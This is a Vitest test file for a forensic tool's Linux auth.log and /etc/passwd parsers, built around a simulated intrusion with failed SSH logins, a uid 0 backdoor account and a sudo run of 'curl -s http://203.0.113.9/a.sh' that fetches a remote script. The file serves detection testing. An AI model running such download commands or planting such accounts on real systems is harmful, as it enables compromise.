import {describe, expect, it} from 'vitest'
import {linuxAuthLog, linuxPasswd} from '../../../src/analyze/plugins/linux.js'
import {parseAuthLine} from '../../../src/parsers/linux/auth-log.js'
import {fixture, runPlugin} from '../../analyze/run-plugin.js'

describe('Linux auth.log', () => {
  it('maps sshd, useradd, usermod/gpasswd and sudo; year from the file time, wrapped over New Year', async () => {
    const {events, diagnostics} = await runPlugin(linuxAuthLog, fixture('linux', 'auth.log.no-year-new-year-wrap'), 'files/var/log/auth.log', {mtime: '2024-01-01T00:10:00.0000000Z', hostTimeZone: 'UTC'})
    expect(events.map((e) => [e.event_type, e.user, e.datetime])).toEqual([
      ['logon.failed', 'admin', '2023-12-31T23:59:58.0000000Z'],
      ['logon.success', 'deploy', '2023-12-31T23:59:59.0000000Z'],
      ['logon.success', 'root', '2024-01-01T00:00:05.0000000Z'],
      ['account.created', 'backup', '2024-01-01T00:01:00.0000000Z'],
      ['account.group_member_added', 'backup', '2024-01-01T00:01:10.0000000Z'],
      ['account.group_member_added', 'backup', '2024-01-01T00:01:20.0000000Z'],
      ['process.created', 'deploy', '2024-01-01T00:02:00.0000000Z'],
    ])
    expect([events[0]!.src_ip, events[0]!.src_port, events[0]!.attributes.method, events[0]!.attributes.invalid_user]).toEqual(['203.0.113.9', 50122, 'password', true])
    expect(events[2]!.src_ip).toBe('2001:db8::7')
    expect(events[3]!.attributes.uid0).toBe(true)
    expect(events[4]!.attributes.privileged_group).toBe(true)
    expect(events[6]!.command_line).toBe('/usr/bin/curl -s http://203.0.113.9/a.sh')
    expect(events[6]!.attributes.run_as).toBe('root')
    expect(events[0]!.host).toBe('web01')
    expect(events[0]!.attributes.original_time_zone).toBe('host-local:UTC')
    expect(diagnostics.filter((d) => d.code === 'LINUX_AUTH_LOG_UNPARSED_LINE').map((d) => d.line)).toEqual([9])
    expect(diagnostics.some((d) => d.code === 'LINUX_SYSLOG_YEAR_INFERRED')).toBe(true)
  })

  it('reads RFC 3339 prefixes with their own offset', () => {
    const l = parseAuthLine('2024-05-01T10:00:00.123456+02:00 web01 sshd[9]: Accepted password for a from 1.2.3.4 port 5 ssh2')!
    expect([l.iso, l.program, l.pid]).toEqual(['2024-05-01T10:00:00.123456+02:00', 'sshd', 9])
  })
})

describe('Linux /etc/passwd', () => {
  it('lists accounts and flags uid 0 that is not root', async () => {
    const {events, diagnostics} = await runPlugin(linuxPasswd, fixture('linux', 'passwd.uid0-backdoor'), 'files/etc/passwd', {mtime: '2024-01-01T00:01:00.0000000Z'})
    expect(events.map((e) => [e.user, e.attributes.uid0])).toEqual([['root', undefined], ['daemon', undefined], ['backup', true], ['deploy', undefined]])
    expect(events.every((e) => e.event_type === 'account.exists' && e.source === 'Linux')).toBe(true)
    expect(diagnostics.map((d) => [d.code, d.line])).toEqual([['LINUX_PASSWD_BAD_LINE', 4]])
  })
})
